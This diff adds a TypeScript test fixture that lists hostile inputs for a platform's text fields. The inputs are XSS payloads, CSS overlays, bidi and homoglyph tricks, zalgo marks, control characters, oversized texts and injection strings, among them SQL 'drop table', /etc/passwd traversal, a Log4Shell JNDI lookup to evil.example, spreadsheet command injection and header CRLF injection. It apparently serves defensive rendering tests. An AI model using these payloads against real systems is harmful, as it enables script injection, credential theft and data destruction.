@@ -1,0 +1,227 @@
+import { hostileMarkdown } from "../../src/server/platform/rendering/hostileMarkdown.ts";
+
+/** A text that would run, reach another host, break the layout, or cover or reverse other texts, with its name. */
+export type HostileText = readonly [what: string, text: string];
+
+const markup: readonly HostileText[] = [
+  [
+    "a form to another host",
+    "<form action=https://evil.example><input name=password><button>OK</button></form>",
+  ],
+  ["a base address", "<base href=https://evil.example/>"],
+  ["a refresh", "<meta http-equiv=refresh content='0;url=https://evil.example/'>"],
+  ["a frame", "<iframe src=https://evil.example></iframe>"],
+  ["a frame with a document", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
+  ["an object", "<object data=https://evil.example/x.swf></object>"],
+  ["an embedded object", "<embed src=javascript:alert(1)>"],
+  ["a preload", "<link rel=preload as=image href=https://evil.example/p.png>"],
+  ["a style sheet", "<link rel=stylesheet href=https://evil.example/x.css>"],
+  ["a video's error", "<video><source onerror=alert(1)></video>"],
+  ["a video's poster", "<video poster=https://evil.example/p.png></video>"],
+  ["a sound", "<audio src=https://evil.example/a.mp3 autoplay></audio>"],
+  ["a table's background", "<table background=https://evil.example/p.png><tr><td>x</table>"],
+  ["a picture of an input", "<input type=image src=https://evil.example/p.png onerror=alert(1)>"],
+  ["autofocus", "<input autofocus onfocus=alert(1)>"],
+  ["an opened details", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
+  ["a marquee", "<marquee onstart=alert(1)>x</marquee>"],
+  [
+    "an SVG's use",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
+  ],
+  ["an SVG's picture", "<svg><image href=https://evil.example/p.png /></svg>"],
+  ["an SVG's foreign object", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>"],
+  [
+    "MathML with a link",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+  ],
+  [
+    "mixed namespaces",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+  ],
+  ["a noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"],
+  ["a template", "<template><img src=x onerror=alert(1)></template>"],
+  ["the end of a text area", "</textarea><script>alert(1)</script>"],
+  ["the end of a title", "</title><script>alert(1)</script>"],
+  ["the end of a script", "</script><script>alert(1)</script>"],
+  ["the end of a style", "</style><img src=x onerror=alert(1)>"],
+  ["plain text to the end", "<plaintext>x"],
+  ["an example to the end", "<xmp><img src=x onerror=alert(1)>"],
+  ["an open comment", "<!-- x"],
+  ["a comment that ends early", "<!--><img src=x onerror=alert(1)>-->"],
+  ["an open attribute", "<a title='x"],
+  ["the end of an attribute", '" onmouseover="alert(1)'],
+  ["the end of an attribute in single quotes", "' onfocus='alert(1)' autofocus='"],
+  ["a CDATA section", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
+  ["the end of a CDATA section", "]]><script>alert(1)</script>"],
+  ["an external entity", "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/e'>]><x>&e;</x>"],
+  ["an id of a global", "<img id=document name=body><a id=location href=x>x</a>"],
+  ["a link to a new window", "<a href=https://evil.example target=_blank rel=opener>x</a>"],
+  ["a ping", "<a href=# ping=https://evil.example>x</a>"],
+  ["a reference link with a script", "[x]\n\n[x]: javascript:alert(1)"],
+  ["a picture as a link", "[![x](https://evil.example/p.png)](javascript:alert(1))"],
+  ["a formula with a link", "$\\href{javascript:alert(1)}{x}$"],
+  [
+    "a formula with HTML",
+    "$\\htmlStyle{position:fixed;inset:0}{x} \\includegraphics{https://evil.example/p.png}$",
+  ],
+  ["a listing's language", '```"><img/src=x/onerror=alert(1)>\nx\n```'],
+];
+
+const style: readonly HostileText[] = [
+  [
+    "a layer over the page",
+    "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
+  ],
+  [
+    "a layer by one's own offset",
+    "<p style='position:absolute;top:-9999px;left:0;width:9999px;height:99999px'>x</p>",
+  ],
+  ["a negative margin", "<p style='margin-top:-999px;margin-left:-999px'>x</p>"],
+  ["a moved text", "<p style='transform:translate(-500px,-500px) scale(50)'>x</p>"],
+  ["a huge font", "<span style='font-size:9999px'>x</span>"],
+  ["a wide element", "<div style='width:99999px;height:10px;background:red'>x</div>"],
+  ["a picture of a style", "<p style='background:url(https://evil.example/p.png)'>x</p>"],
+  ["an imported style", "<style>@import url(https://evil.example/x.css);</style>"],
+  ["a style for the page", "<style>body{display:none}*{color:red!important}</style>"],
+  ["a font", "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>"],
+  ["an expression", "<p style='width:expression(alert(1))'>x</p>"],
+  ["a class of the page", "<div class='dialog backdrop overlay modal hidden'>x</div>"],
+  ["a reversed direction", "<bdo dir=rtl>reversed</bdo><p dir=rtl>reversed</p>"],
+  [
+    "a vertical text",
+    "<p style='writing-mode:vertical-rl;unicode-bidi:bidi-override;direction:rtl'>x</p>",
+  ],
+];
+
+const bidi: readonly HostileText[] = [
+  ["right-to-left override", "user\u202egnp.exe"],
+  ["left-to-right override", "\u202dabc"],
+  ["right-to-left embedding", "\u202babc"],
+  ["left-to-right embedding", "\u202aabc"],
+  ["right-to-left isolate", "\u2067abc"],
+  ["first-strong isolate", "\u2068\u05d0abc"],
+  ["many overrides", "\u202e".repeat(130) + "abc"],
+  ["ends without beginnings", "\u202c\u2069\u202c\u2069abc\u202c\u2069"],
+  ["an override within an isolate", "\u2066abc\u202edef"],
+  ["right-to-left mark", "abc\u200f!"],
+  ["Arabic letter mark", "123\u061c-456"],
+  ["Hebrew", "שלום abc (1)"],
+  ["Arabic and numbers", "مرحبا 123 abc"],
+  ["Arabic at the end", "abc 123 مرحبا"],
+  ["code that reads otherwise", "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */"],
+];
+
+const homoglyphs: readonly HostileText[] = [
+  ["Cyrillic letters", "аdmіn rооt"],
+  ["Greek letters", "ΑΒΕΗΙΚΜΝΟΡΤΥΧ"],
+  ["wide letters", "ａｄｍｉｎ＜script＞"],
+  ["mathematical letters", "𝐚𝐝𝐦𝐢𝐧 𝒓𝒐𝒐𝒕"],
+  ["letters in circles", "ⓐⓓⓜⓘⓝ"],
+  ["small capitals", "ᴀᴅᴍɪɴ"],
+  ["a host of other letters", "https://аpple.com"],
+  ["a Turkish letter", "ADMİN ıI"],
+  ["a sharp s", "STRASSE straße ẞ"],
+  ["ligatures that grow", "ﷺﷻ﷽ﬃ"],
+  ["a blank name", "\u3164\u2800\u115f"],
+  ["an ideographic space", "\u3000x\u3000"],
+];
+
+const marks: readonly HostileText[] = [
+  ["marks above", "Z" + "\u0300\u0301\u0302\u0303".repeat(40)],
+  ["marks below", "Z" + "\u0316\u0317\u0318\u0319".repeat(40)],
+  ["marks through", "Z" + "\u0334\u0335\u0336\u0338".repeat(40)],
+  [
+    "marks on each letter",
+    [..."zalgo text"].map((letter) => letter + "\u0301\u0316\u033f".repeat(8)).join(""),
+  ],
+  ["a mark without a letter", "\u0301\u0301\u0301x"],
+  ["enclosing marks", "x\u20dd\u20de\u20e0\u20e3"],
+  ["Arabic marks", "ا\u064e\u064f\u0650\u0651".repeat(30)],
+  ["Tibetan stacks", "ཧ\u0f90\u0f91\u0f92\u0f93".repeat(20)],
+  ["Thai marks", "ก็็็็็็็็็็็็็็็็็็็็็็็็็็"],
+  ["half marks", "x\ufe20\ufe21\ufe22\ufe23"],
+];
+
+const controls: readonly HostileText[] = [
+  ["a bell and an escape", "a\u0007\u001b[31mred\u001b[0m"],
+  ["a terminal's title", "\u001b]0;title\u0007"],
+  ["backspaces", "password\b\b\b\b\b\b\b\b"],
+  ["a delete", "a\u007fb"],
+  ["C1 controls", "a\u0080\u0085\u009bb"],
+  ["line separators", "a\u2028b\u2029c"],
+  ["zero-width characters", "a\u200b\u200c\u200d\u2060\ufeffb"],
+  ["soft hyphens", "a\u00adb\u00ad".repeat(20)],
+  ["variation selectors", "a\ufe0f\ufe0e\u{e0100}"],
+  ["tags", "a\u{e0061}\u{e0062}\u{e007f}"],
+  ["noncharacters", "a\uffff\ufdd0\u{1ffff}"],
+  ["private use", "\ue000\uf8ff\u{f0000}"],
+  ["an interlinear annotation", "a\ufff9b\ufffac\ufffb"],
+  ["a form feed and tabs", "a\f\v\t\t\tb"],
+  ["a lone carriage return", "a\rb"],
+  ["a family of emoji", "👩‍👩‍👧‍👦".repeat(20)],
+  ["flags", "🇨🇳🇺🇸🇨".repeat(10)],
+];
+
+const size: readonly HostileText[] = [
+  ["one long word", "W".repeat(250)],
+  ["one long word of Chinese", "题".repeat(250)],
+  ["one long address", `https://example.org/${"a".repeat(220)}`],
+  ["many lines", "a\n".repeat(100)],
+  ["many blanks", `a${" ".repeat(200)}b`],
+  ["wide characters", "﷽".repeat(60)],
+  ["long cuneiform", "𒐫𒈙⸻".repeat(20)],
+  ["huge: one word", "x".repeat(9000)],
+  ["huge: a table", `${"|a".repeat(60)}\n${"|-".repeat(60)}\n${"|b\n".repeat(100)}`],
+  ["huge: a formula", `$$${"x+".repeat(800)}x$$`],
+  ["huge: code", `\`\`\`\n${"y".repeat(4000)}\n\`\`\``],
+  ["nested quotes", `${">".repeat(100)} x`],
+  ["nested lists", Array.from({ length: 40 }, (_, n) => `${"  ".repeat(n)}- x`).join("\n")],
+  ["nested emphasis", `${"*".repeat(60)}x${"*".repeat(60)}`],
+  ["nested brackets", `${"[".repeat(100)}x${"]".repeat(100)}`],
+  ["nested elements", `${"<div>".repeat(150)}x`],
+  ["nested formulas", `$${"{".repeat(60)}x${"}".repeat(60)}$`],
+  ["nested tables", "<table><tr><td>".repeat(30)],
+  ["a heading in a name", "# x\n## y"],
+];
+
+const languages: readonly HostileText[] = [
+  ["a placeholder of messages", "{count, plural, one {#} other {#}} {name} {0}"],
+  ["an open placeholder", "{"],
+  ["a template of scripts", "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %> #{1}"],
+  ["a formula of a spreadsheet", '=HYPERLINK("https://evil.example","x")'],
+  ["a command of a spreadsheet", "+cmd|' /C calc'!A0"],
+  ["an at sign of a spreadsheet", "@SUM(1)"],
+  ["a minus of a spreadsheet", "-2+3"],
+  ["a line of a mail's head", "x\r\nBcc: other@evil.example"],
+  ["a line of a response's head", "x\r\nSet-Cookie: a=b"],
+  ["a line of an event", 'x\n\ndata: {"type":"resync"}\n\n'],
+  ["a statement", "'; drop table app_user; --"],
+  ["signs of patterns", "%_\\[a-z]*?"],
+  ["a path", "../../../../etc/passwd"],
+  ["a path with a drive", "C:\\con\\nul"],
+  ["a name of JavaScript", "__proto__"],
+  ["a lookup", "${jndi:ldap://evil.example/a}"],
+  ["a mention of many", "@root ".repeat(30)],
+  ["entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;"],
+  ["entities of entities", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"],
+  ["percent signs of addresses", "%3Cscript%3Ealert(1)%3C/script%3E"],
+  ["escapes of JSON", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"],
+  ["commands of LaTeX", "\\input{/etc/passwd} \\write18{id}"],
+];
+
+const all: readonly HostileText[] = [
+  ...hostileMarkdown.map(([what, text]): HostileText => [`Markdown: ${what}`, text]),
+  ...markup,
+  ...style,
+  ...bidi,
+  ...homoglyphs,
+  ...marks,
+  ...controls,
+  ...size,
+  ...languages,
+];
+
+/** Texts for all fields of texts, each once. */
+export const hostileTexts: readonly HostileText[] = [
+  ...new Map(all.map((each) => [each[1], each])).values(),
+];
